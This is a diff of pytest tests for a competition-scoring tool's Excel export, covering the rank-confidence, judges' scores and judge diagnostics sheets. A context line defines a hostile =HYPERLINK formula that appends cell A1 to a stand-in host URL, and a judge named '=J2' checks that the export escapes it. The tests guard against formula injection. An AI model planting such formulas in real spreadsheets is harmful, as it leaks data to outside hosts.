@@ -10,6 +10,7 @@ from scoring.documents.workbook import TITLE_ROWS, results_workbook
 from scoring.entries import Entries, Entry
 from scoring.pipeline import score
 from tests.helpers import marks, single_leaf
+from tests.test_cli import POSTER, SCORES, competition, run  # noqa: F401 - a fixture
 
 HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'
 
@@ -134,6 +135,9 @@ def test_confidence_sheet_gives_place_probabilities_interval_and_flag() -> None:
     assert data["categories"]["A"][0]["confidence"]["p_own_place"] == 0.5
     cell = workbook["Rank confidence"].cell(row=2, column=header.index("too close to call") + 1)
     assert cell.font.bold
+    # the flag reads the award probability: that figure is the one marked beside it
+    sheet = workbook["Rank confidence"]
+    assert sheet.cell(row=2, column=header.index("probability of any place") + 1).font.bold
     assert workbook["Rank confidence"].cell(
         row=2, column=header.index("probability of place 1") + 1).number_format == "0.0%"
 
@@ -258,3 +262,63 @@ def test_no_cell_holds_more_than_the_rubrics_decimals() -> None:
     assert totals == [86.78, 70.5, 60.5]
     confidence = list(workbook["Rank confidence"].iter_rows(values_only=True))
     assert confidence[1][4] == 86.78
+
+
+# --- the scores sheet, optional ----------------------------------------------------------------
+
+
+def test_the_scores_sheet_has_one_plain_row_per_mark_and_can_be_left_out() -> None:
+    entries = Entries((Entry("e1", "Satu", "A"), Entry("e2", "Dua", "A")))
+    # 2 entries × 2 judges × 1 criterion = 4 marks, one row each below the header
+    scores = marks(entries, {("e1", "J1"): {"c": 50}, ("e1", "=J2"): {"c": 60.25},
+                             ("e2", "J1"): {"c": 70}, ("e2", "=J2"): {"c": 80}})
+    result = score(single_leaf(), entries, scores)
+    full = load_workbook(io.BytesIO(results_workbook(result, "en")))
+    rows = _rows(full, "Judges' scores")
+    assert len(rows) == 1 + 4
+    assert {(r[0], r[2], r[4]) for r in rows[1:]} == {
+        ("e1", "J1", 50.0), ("e1", "'=J2", 60.25), ("e2", "J1", 70.0), ("e2", "'=J2", 80.0)}
+    # plain rows: the default style, the number as a number
+    cell = full["Judges' scores"]["E2"]
+    assert cell.data_type == "n" and cell.number_format == "General" and not cell.font.b
+    without = load_workbook(io.BytesIO(results_workbook(result, "en", scores_sheet=False)))
+    assert "Judges' scores" not in without.sheetnames
+    assert without.sheetnames == [s for s in full.sheetnames if s != "Judges' scores"]
+
+
+def test_the_cli_leaves_the_scores_sheet_out_on_request(competition, tmp_path) -> None:  # noqa: F811
+    made = competition
+    sheets = [made["s0"], made["s1"], made["s2"]]
+    common = ["--rubric", POSTER, "--entries", made["entries"], *sheets]
+    kept, left = tmp_path / "kept.xlsx", tmp_path / "left.xlsx"
+    assert run("--lang", "en", "score", *common, "--out", kept) == 0
+    assert run("--lang", "en", "score", *common, "--out", left, "--scores-sheet", "no") == 0
+    # 15 (entry, judge) pairs: 6 PELAJAR ones with 4 criteria, 9 UMUM ones with 3 = 51 marks
+    assert sum(len(by) for by in SCORES.values()) == 6 * 4 + 9 * 3 == 51
+    assert len(_rows(load_workbook(kept), "Judges' scores")) == 1 + 51
+    assert "Judges' scores" not in load_workbook(left).sheetnames
+    report = tmp_path / "report.xlsx"
+    assert run("--lang", "en", "report", *common, "--kind", "workbook", "--out", report,
+               "--scores-sheet", "no") == 0
+    assert load_workbook(report).sheetnames == load_workbook(left).sheetnames
+
+
+def test_judge_sheet_shows_the_spread_weight_under_leniency_spread() -> None:
+    from tests.test_pipeline import FOUR_ENTRIES
+
+    # three judges score all four entries; with min_scores 2 the panel's spread counts as
+    # 2 × 2 = 4 marks, so each judge keeps 4 / (4 + 4) = 0.5 of its own slope
+    given = {"J1": (80, 70, 60, 50), "J2": (85, 72, 66, 51), "J3": (78, 74, 58, 52)}
+    scores = marks(FOUR_ENTRIES, {(e, j): {"c": v} for j, values in given.items()
+                                  for e, v in zip("abcd", values, strict=True)})
+    rubric = single_leaf(normalisation={"method": "leniency_spread", "min_scores": 2},
+                         awards={"places": [{"name": "Juara I"}]})
+    workbook = load_workbook(io.BytesIO(results_workbook(score(rubric, FOUR_ENTRIES, scores),
+                                                         "en")))
+    rows = _rows(workbook, "Judge diagnostics")
+    column = rows[0].index("own spread weight (the rest pulled toward the panel)")
+    assert [row[column] for row in rows[1:4]] == pytest.approx([0.5, 0.5, 0.5])
+    # another method has no such column
+    plain = load_workbook(io.BytesIO(results_workbook(_severity_result(), "en")))
+    assert "own spread weight (the rest pulled toward the panel)" not in _rows(
+        plain, "Judge diagnostics")[0]
